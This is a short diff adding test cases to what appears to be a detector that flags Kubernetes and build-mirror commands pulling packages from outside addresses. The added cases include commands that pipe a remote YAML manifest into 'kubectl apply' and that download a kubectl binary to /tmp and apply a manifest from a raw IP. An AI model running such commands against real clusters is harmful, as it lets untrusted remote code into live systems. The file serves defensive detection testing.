@@ -12,6 +12,10 @@ const MAVEN = '<settings><mirrors><mirror><id>a</id><mirrorOf>*</mirrorOf><url>T
 
 indicatorTable(commandPackageFromAddress, {
   fires: {
+    'objects that come without encryption': script('curl -s http://m.addons.example.net/a.yaml | kubectl apply -f -'),
+    'objects that a client under another name creates': script(
+      'curl -fsSL -o /tmp/k https://dl.k8s.io/release/v1.29.0/bin/linux/amd64/kubectl; /tmp/k apply -f http://203.0.113.7/i.yaml',
+    ),
     'settings of builds in a ConfigMap that is applied': withFiles({ a: settings('http://203.0.113.7:8081/npm/') }, [
       ...['kubectl', 'apply', '-f', '/m/a'],
     ]),
